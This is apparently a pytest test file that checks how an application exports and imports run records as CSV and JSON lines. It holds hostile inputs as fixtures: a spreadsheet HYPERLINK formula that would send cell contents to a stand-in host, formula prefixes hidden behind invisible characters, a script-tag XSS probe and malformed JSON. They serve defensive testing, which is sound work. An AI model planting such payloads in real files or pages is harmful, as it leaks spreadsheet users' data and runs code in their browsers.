"""Files that mean harm, out and in: no spreadsheet carries anything out, no line stops the others or half enters."""

import csv
import io
import json
from typing import Any

import orjson
import pytest

from app.history import History, RunFilter
from app.run_changes import check_tag
from app.run_export import csv_lines, json_line, json_lines
from app.run_import import Findings, run_import
from models.db.base import escape_text
from models.db.runs import Run
from models.db.session import Database
from models.errors import RefusedError
from tests.integration.app.test_transfer import broken, clear, everything, save

FORMULA = '=HYPERLINK("http://x/"&A1)'
HOSTILE = [
    FORMULA,
    "+1",
    "-1",
    "@SUM(1)",
    "\0=1",
    "\u200b=1",
    "\ufeff=1",
    "\t=1",
    "\n=1",
    " \u2028=1",
    "\ud800=1",
    "＝1",
]
ODD = [
    "\0",
    "\x01\x1b[2J",
    "\u2028\u2029\x85",
    "\ufdd0",
    "\ufdd00",
    "x" * 1_000_000,
    "\r\n",
    '"',
    "é\u0301" * 9,
]


def run_in(database: Database, *lines: bytes) -> Findings:
    return run_import(database, lines, is_preview=False)


def is_tag(text: str) -> bool:
    """Whether the page would take it for one."""
    try:
        return check_tag(text) == text
    except RefusedError:
        return False


def table(database: Database, run_ids: list[str]) -> list[dict[str, str]]:
    text = b"".join(csv_lines(database, run_ids)).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_the_table_is_carried_out(database: Database, text: str) -> None:
    tags = [text if is_tag(text) else "=t", "t"]
    run_id = save(database, prompt=text, title=text, note=text, tags=tags, text=text, given_text=text)
    (row,) = table(database, [run_id])
    for name in ("prompt", "title", "note", "tags", "text"):
        assert row[name].startswith("'"), name
        assert name == "tags" or "\ud800" in text or row[name] == "'" + text
    assert row["id"] == run_id


def test_a_text_cannot_make_another_line_or_column_of_the_table(database: Database) -> None:
    first = save(database, prompt='a",b\r\n=1,2\n"', note="x,=1")
    second = save(database)
    rows = table(database, [first, second])
    assert [row["id"] for row in rows] == [first, second]
    assert rows[0]["prompt"] == 'a",b\r\n=1,2\n"'
    assert rows[0]["note"] == "x,=1"


@pytest.mark.parametrize("text", ODD)
def test_odd_text_goes_out_and_comes_back_exactly(database: Database, text: str) -> None:
    run_id = save(database, prompt=text, title=text, note=text, text=text)
    line, before = json_line(database, run_id), everything(database)
    assert line.count(b"\n") == 1, "one run is one line"
    clear(database)
    assert run_in(database, line).num_new == 1
    assert everything(database) == before
    assert json_line(database, run_id) == line


def test_half_a_surrogate_pair_neither_goes_out_nor_comes_in(database: Database) -> None:
    """No door lets one in; a row that has one all the same costs no other run its line."""
    bad, good = save(database, title="\ud800"), save(database)
    first, second = json_lines(database, [bad, good])
    assert orjson.loads(first)["error"]["message"].startswith(f"Run {bad} holds what is no text")
    clear(database)
    changed = broken({"record.run.title": escape_text("\ud800")}, second)
    assert "half a surrogate pair" in run_in(database, changed).refused[0]
    assert everything(database)["runs"] == []


@pytest.mark.parametrize("tag", ["", "\0", "\ud800", "a,b", " a", "x" * 1000])
def test_what_is_no_tag_does_not_come_in_as_one(database: Database, tag: str) -> None:
    line = json_line(database, save(database))
    clear(database)
    values = orjson.loads(line)
    values["record"]["run"]["tags"] = [tag]
    found = run_in(database, json.dumps(values).encode())
    assert (found.num_new, found.num_refused) == (0, 1)


def test_a_run_that_is_here_stays_as_it_is(database: Database) -> None:
    run_id = save(database, title="mine")
    changed = broken(
        {"record.run.title": "theirs", "title": "theirs", "record.run.note": FORMULA}, json_line(database, run_id)
    )
    before = everything(database)
    assert run_in(database, changed, changed).num_here == 2
    assert everything(database) == before


def test_one_run_twice_in_a_file_enters_once(database: Database) -> None:
    line = json_line(database, save(database))
    clear(database)
    found = run_in(database, line, broken({"record.run.title": "second"}, line))
    assert (found.num_new, found.num_here) == (1, 1)


@pytest.mark.parametrize(
    "change",
    [{"record.format": format_} for format_ in (0, 2, 1.5, "1", None, [1], 10**18)],
)
def test_a_file_of_another_version_is_refused(database: Database, change: dict[str, Any]) -> None:
    line = broken(change, json_line(database, save(database)))
    clear(database)
    found = run_in(database, line)
    assert (found.num_new, found.num_refused) == (0, 1)
    assert "export it with this version" in found.refused[0]


@pytest.mark.parametrize(
    "spoil",
    [
        lambda line: line.replace(b'"num_tokens":2', b'"num_tokens":' + b"9" * 400, 1),
        lambda line: line.replace(b'"num_tokens":2', b'"num_tokens":1e999', 1),
        lambda line: line.replace(b'"num_tokens":2', b'"num_tokens":NaN', 1),
        lambda line: line.replace(b'"num_tokens":2', b'"num_tokens":-0.0', 1),
        lambda line: b"[" * 100_000 + line,
        lambda line: line[: len(line) // 2],
        lambda line: b"\xff\xfe" + line,
        lambda line: line.replace(b'"seed":"', b'"seed":"\\ud800', 1),
    ],
)
def test_a_damaged_number_or_line_is_refused_and_the_next_goes_on(database: Database, spoil: Any) -> None:
    first, second = (json_line(database, save(database)) for _ in range(2))
    record = orjson.loads(first)
    first = orjson.dumps({"record": record.pop("record"), **record})  # the record's number is the first of its name
    clear(database)
    found = run_in(database, spoil(first), second)
    assert (found.num_new, found.num_refused) == (1, 1), found.refused
    assert found.refused[0].startswith("line 1: ")
    assert len(everything(database)["runs"]) == 1


def test_of_a_name_that_is_given_twice_the_last_counts_and_is_checked(database: Database) -> None:
    line = json_line(database, save(database, title="one"))
    clear(database)
    good = orjson.dumps(orjson.loads(line)["record"])
    twice = line.rstrip()[:-1] + b',"record":{"format":1,"run":null}}'
    assert run_in(database, twice).num_refused == 1
    assert everything(database)["runs"] == []
    thrice = twice[:-1] + b',"record":' + good + b"}"
    assert run_in(database, thrice).num_new == 1
    assert [row["title"] for row in everything(database)["runs"]] == ["one"]


def test_markup_is_text_in_the_history_that_an_import_fills(database: Database) -> None:
    run_id = save(database)
    line = broken({"record.run.title": "<script>alert(1)</script>"}, json_line(database, run_id))
    clear(database)
    assert run_in(database, line).num_new == 1
    (row,) = History(database).page(RunFilter()).rows
    assert row.title == "<script>alert(1)</script>"
    with database.read() as session:
        assert session.get_one(Run, run_id).title == row.title
